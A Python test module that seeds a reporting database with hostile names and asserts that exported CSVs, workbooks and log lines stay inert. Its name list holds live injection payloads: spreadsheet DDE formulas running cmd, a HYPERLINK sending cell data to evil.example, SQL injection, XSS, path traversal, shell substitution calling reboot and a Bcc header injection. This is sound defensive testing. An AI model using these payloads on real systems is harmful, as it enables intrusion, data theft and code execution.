"""Names that customers, sites, meters, devices, alarms and recipients might have, and what must not come of them: a list
for every test of a thing that shows names, a store in which everything is called so, and the checks.

    python3 tests/hostile_names.py FILE
"""

import html
import re
import sqlite3
import sys
import zipfile
from xml.etree import ElementTree

import reports

# What it tries: the name.
NAMES = {
    "plain": "Customer",
    "path": "../../etc/passwd",
    "absolute": "/etc/cron.d/evil",
    "share": "\\\\server\\share\\..\\x",
    "dots": "..",
    "trailing": "Customer. . .",
    "lookalike dots": "\uff0e\uff0e/\uff0e\uff0e/\u2025/\u2026",
    "device": "CON",
    "stream": "nul.txt:stream",
    "formula": "=cmd|' /C calc'!A0",
    "link": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab formula": "\t=1+1",
    "full-width formula": "\uff1d1+1",
    "address": "http://evil.example/",
    "mailto": "internal:Sheet1!A1",
    "ampersands": "&" * 120,
    "header codes": "&\"Wingdings,Bold\"&72&K123456&G&A &P/&N",
    "sheet": "a[b]:c*d?e/f\\g'h",
    "sheet quote": "'quoted'",
    "history": "History",
    "markup": "<script>alert('x') & \"y\"</script>",
    "attribute": "\"><img src=x onerror=alert(1)>",
    "entity": "&lt;b&gt;&#0;&nbsp;]]>",
    "comment": "--><!-- <style>*{display:none}</style>",
    "pdf": "(a) Tj ET ) \\( /JS (app.alert(1)) >> endobj",
    "tex": "$(reboot)`reboot`${HOME}; reboot | reboot",
    "format": "%s%n%99999d%%",
    "placeholder": "{energy.total}{if bill.total}{name}$row",
    "csv": "a\",\"b;c,d\"\"\n\"e",
    "json": "\",\"state\":\"done\",\"\\u0000\":\"",
    "metric": "a\"} 1\nevil{x=\"\\",
    "sql": "'; DROP TABLE tenant; --",
    "option": "-rf --force",
    "controls": "a\r\nBcc: evil@example.com\r\n\r\nb\tc\x01\x1f\x7f",
    "terminal": "\x1b]0;title\x07\x1b[2J\x1b[31mred\u009b31m",
    "backspace": "good\b\b\b\bbad\x0b\x0c",
    "separators": "a\u2028b\u2029c\u0085d",
    "directions": "甲\u202e乙\u200f丙\u2066丁\u2069\u061c戊",
    "invisible": "甲\u200b乙\u200d丙\u2060丁\u00ad戊\ufe0f己\ufeff",
    "combining": "e\u0301o\u0308",
    "space": " ",
    "wide space": "\u3000\u00a0",
    "long": "长" * 120,
    "long word": "W" * 120,
    "long spaces": "a " * 60,
}
# Bytes that are no text.
BROKEN = {
    "ill-formed": b"a\xff\xfeb\xc0\xafc",
    "surrogate": b"a\xed\xa0\x80b\xed\xb0\x80",
    "cut off": "客户".encode()[:-1],
    "overlong": b"\xe0\x80\xaf\xf8\x88\x80\x80\x80..",
}
# Characters that neither font has.
NOT_DRAWN = {
    "one dot leaders": "\u2024\u2024/\u2024\u2024/etc",
    "emoji": "工厂\U0001f3ed\U0001f525",
    "family": "\U0001f468\u200d\U0001f469\u200d\U0001f467\ufe0f",
    "long of four bytes": "\U0002a6d6" * 120,
    "tibetan": "\u0f40",
}
ALL = {**NAMES, **NOT_DRAWN, **BROKEN}
IDS = {what: 1 + i for i, what in enumerate(ALL)}  # of the tenants in store(); its project is 10 ×, its point 100 × + 1
MANAGEMENT, FEW, PLATFORM = 900, 901, 999
# Whose bills a workbook works out by formulas, on sheets that are called by their names.
OF_FEW = ("formula", "link", "sheet", "sheet quote", "markup", "header codes", "long", "history")

# What no line, cell, page or header may hold: controls, line breaks of any kind, marks of direction.
HARMFUL = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ufeff\ufffe\uffff]")


def sql_text(value):
    """The expression that puts it into a column as text, whatever bytes it is of."""
    raw = value if isinstance(value, bytes) else value.encode("utf-8")
    return f"CAST(X'{raw.hex()}' AS TEXT)"


# Every column of the directory that is a name or a sentence, with the key by which a tenant's rows are found.
COLUMNS = {
    "tenant": ("tenant_id", 1, ("name", "short_name", "contact_name", "contact_email")),
    "project": ("project_id", 10, ("name", "address", "industry")),
    "point": ("project_id", 10, ("name",)),
    "transformer": ("project_id", 10, ("name",)),
    "sensor": ("project_id", 10, ("name",)),
    "tariff": ("project_id", 10, ("source",)),
    "emission_factor": ("project_id", 10, ("source",)),
    "meter_change": ("point_id", 100, ("old_serial", "new_serial", "note")),
    "point_name": ("point_id", 100, ("name",)),
    "recipient": ("tenant_id", 1, ("name",)),
    "soe_event": ("project_id", 10, ("point_name", "message", "phase")),
}
START_MS = 1519833600000  # 2018-03-01T00:00+08:00
HOUR_MS = 3_600_000


def add_rows(store, number):
    """What reports.add_tenant leaves out: a row of every table that has names, two days of minutes, alarms."""
    project, point, long_ago = 10 * number, 100 * number + 1, "2017-01-01 00:00:00"
    reports.insert(store, "sensor", sensor_id=number, project_id=project, point_id=point, name="s", kind="temperature",
                   warn_limit=60, alarm_limit=80, valid_from=long_ago)
    reports.insert(store, "emission_factor", project_id=project, valid_from=long_ago, kg_co2_per_kwh=0.57,
                   kgce_per_kwh=0.1229, source="s")
    reports.insert(store, "meter_change", point_id=point, changed_at="2018-03-10 00:00:00", old_serial="a", new_serial="b")
    reports.insert(store, "point_name", point_id=point, name="n", valid_from="2018-01-01 00:00:00")
    reports.insert(store, "recipient", tenant_id=number, email=f"customer{number}@example.com", kind="to", active=1)
    store.executemany(
        "INSERT INTO point_1min_index (point_id, project_id, time, ua, ub, uc, ia, ib, ic, pttl, costtl) "
        "VALUES (?,?,?,?,?,?,?,?,?,?,?)",
        [(point, project, START_MS + 60_000 * i, 221, 222, 223, 60, 61, 62, 40, 0.95) for i in range(240)])
    store.executemany("INSERT INTO location_1min_aiao (sensor_id, project_id, time, value) VALUES (?,?,?,?)",
                      [(number, project, START_MS + 300_000 * i, 40 + i % 45) for i in range(100)])
    for i, code in enumerate(("over_temperature", "low_power_factor", "high_thd_u", "unknown")):
        reports.insert(store, "soe_event", event_id=f"{number}-{i}", project_id=project, point_id=point, sensor_id=number,
                       code=code, level=1, started_at=START_MS + (10 + i) * HOUR_MS, ended_at=START_MS + (12 + i) * HOUR_MS,
                       value=85, limit_value=80)


def rename(store, number, value):
    """Everything of a tenant is called so."""
    for table, (key, factor, columns) in COLUMNS.items():
        where = f"{key} = {number * factor}" if key != "point_id" else f"{key} = {number * factor + 1}"
        names = ", ".join(f"{column} = {sql_text(value)}" for column in columns)
        store.execute(f"UPDATE {table} SET {names} WHERE {where}")
    store.execute(f"UPDATE soe_event SET event_id = {sql_text(value)} WHERE event_id = '{number}-0'")
    store.execute(f"UPDATE soe_event SET code = {sql_text(value)} WHERE event_id = '{number}-3'")


def make_store(path, names=None, management=True, platform=True):
    """A tenant for each name, by IDS, and a management and a platform tenant over all of their projects."""
    names = ALL if names is None else names
    with sqlite3.connect(path) as store:
        store.executescript((reports.ROOT / "samples" / "schema.sql").read_text(encoding="utf-8"))
        for code, category, name in (("over_temperature", "safety", "=1+1<b>{x}%s"), ("low_power_factor", "quality", "@a"),
                                     ("high_thd_u", "quality", "-b\x1b[31m")):
            reports.insert(store, "alarm_type", code=code, name_zh=name, name_en=name, category=category, retired=0)
        reports.insert(store, "offday", region="CN", calendar_day="2018-03-05", worked=0, name="=1+1\u202e")
        for what, value in names.items():
            number = IDS[what]
            reports.add_tenant(store, number)
            reports.add_quarters(store, number)
            add_rows(store, number)
            rename(store, number, value)
        for number, edition in ((MANAGEMENT, "management"), (FEW, "management"), (PLATFORM, "platform")):
            if (management, platform)[edition == "platform"]:
                reports.insert(store, "tenant", tenant_id=number, name=edition, edition=edition, locale="zh-CN",
                               timezone="Asia/Shanghai", service_from="2017-01-01")
        if management:
            for what in set(names) - set(NOT_DRAWN):
                reports.insert(store, "tenant_project", tenant_id=MANAGEMENT, project_id=10 * IDS[what])
            for what in set(names) & set(OF_FEW):
                reports.insert(store, "tenant_project", tenant_id=FEW, project_id=10 * IDS[what])
    store.close()
    return path


# --- the checks -------------------------------------------------------------------------------------------------------

def cleaned(value):
    """As readers see it (base/text.h)."""
    text = value
    if isinstance(value, bytes):  # a mark for each byte that is none of a character
        text = re.sub("[\udc80-\udcff]", "\ufffd", value.decode("utf-8", errors="surrogateescape"))
    text = re.sub("\r\n", "\n", text)
    text = re.sub("[\t-\r\u0085\u2028\u2029]", " ", text)
    text = re.sub("[\x00-\x1f\x7f-\x9f\u00ad\u034f\u061c\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufe00-\ufe0f\ufeff\ufff9-"
                  "\ufffb\ufffe\uffff\U000e0000-\U000e0fff]", "", text)
    return text.strip(" ")


def assert_harmless_lines(text, where=""):
    """Text of whole lines, for a log or a terminal."""
    for line in text.split("\n"):
        assert not HARMFUL.search(line), (where, line)


def assert_harmless_table(rows, where=""):
    """Cells of a CSV: none would be worked out by a spreadsheet."""
    for row in rows:
        for cell in row:
            assert not HARMFUL.search(cell), (where, cell)
            assert not re.match("[=+@\t\r-]", cell) or re.fullmatch(r"[+-]?[0-9.]+(e[+-]?[0-9]+)?", cell), (where, cell)


def workbook_parts(path):
    """What a spreadsheet works out, opens or runs, in a workbook whose every part is well-formed: formulas with their
    cells, the sheets' and the defined names, columns of tables, what charts show, targets of links."""
    found = {}
    with zipfile.ZipFile(path) as archive:
        for part in sorted(archive.namelist()):
            assert re.fullmatch(r"[A-Za-z0-9_./\[\]-]+", part) and ".." not in part, part
            text = archive.read(part).decode("utf-8")
            ElementTree.fromstring(text)
            if part.startswith("xl/worksheets/sheet"):
                found[part] = (re.findall(r'<c r="([A-Z]+\d+)"[^>]*><f>([^<]*)</f>', text), re.findall("<hyperlink [^>]*>", text))
                assert len(found[part][0]) == text.count("<f"), part
                for header in re.findall(r"<odd(?:Header|Footer)>([^<]*)</odd", text):
                    header = html.unescape(header)
                    codes = header.replace("&&", "")
                    assert re.fullmatch("&L[^&]*&R[^&]*|&R&P / &N", codes), header
                    assert len(header) <= 255
            elif part.startswith("xl/charts/"):
                found[part] = re.findall("<c:f>([^<]*)</c:f>", text)
            elif part.startswith("xl/tables/"):
                found[part] = re.findall(r'<table(?:Column)? [^>]*name="[^"]*"', text)
            elif part == "xl/workbook.xml":
                # How far a sheet is printed depends on the widths of its columns, and so on names.
                found[part] = [re.sub(r"(Print_Area.*\$A\$1:).*", r"\1", name)
                               for name in re.findall("<(?:sheet|definedName) [^>]*>[^<]*", text)]
            elif part.endswith(".rels"):
                found[part] = sorted(re.findall(r'Target="([^"]*)"', text))
                assert "External" not in text, part
            else:
                assert part in ("[Content_Types].xml", "docProps/app.xml", "docProps/core.xml", "xl/sharedStrings.xml",
                                "xl/styles.xml", "xl/theme/theme1.xml") or part.startswith("xl/drawings/drawing"), part
            if part == "xl/sharedStrings.xml":
                assert not HARMFUL.search(text.replace("\n", "").replace("\r", "")), part
    return found


def without_sheets(parts):
    """The parts without the sheets' names, where every reference names a sheet that is there."""
    names = [html.unescape(name) for name in re.findall('<sheet name="([^"]*)"', " ".join(parts["xl/workbook.xml"]))]
    assert len({name.casefold() for name in names}) == len(names)
    for name in names:
        assert len(name.encode("utf-16-le")) <= 62 and not re.search(r"[\[\]:*?/\\]|^'|'$", name), name
    quoted = {"'" + name.replace("'", "''") + "'!" for name in names} | {f"{name}!" for name in names}

    def reference(match):
        assert match[0] in quoted, (match[0], match.string)
        return "!"

    def bare(text):
        if text.startswith("<sheet "):
            return ""
        return re.sub(r"'(?:[^']|'')*'!|[^\W\d][\w.]*!", reference, html.unescape(text))

    found = []
    for name, part in parts.items():
        if name.startswith("xl/worksheets/sheet"):
            found += [bare(formula) for _, formula in part[0]]
            found += [bare(place) for link in part[1] for place in re.findall('location="([^"]*)"', link)]
        elif name.startswith("xl/charts/") or name == "xl/workbook.xml":
            found += [bare(text) for text in part]
        else:
            found += part
    return found


def shared_texts(path):
    """Every text that stands in a cell."""
    with zipfile.ZipFile(path) as archive:
        strings = ElementTree.fromstring(archive.read("xl/sharedStrings.xml"))
    space = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    return {"".join(part.text or "" for part in item.iter(f"{space}t")) for item in strings.iter(f"{space}si")}


if __name__ == "__main__":
    make_store(sys.argv[1])
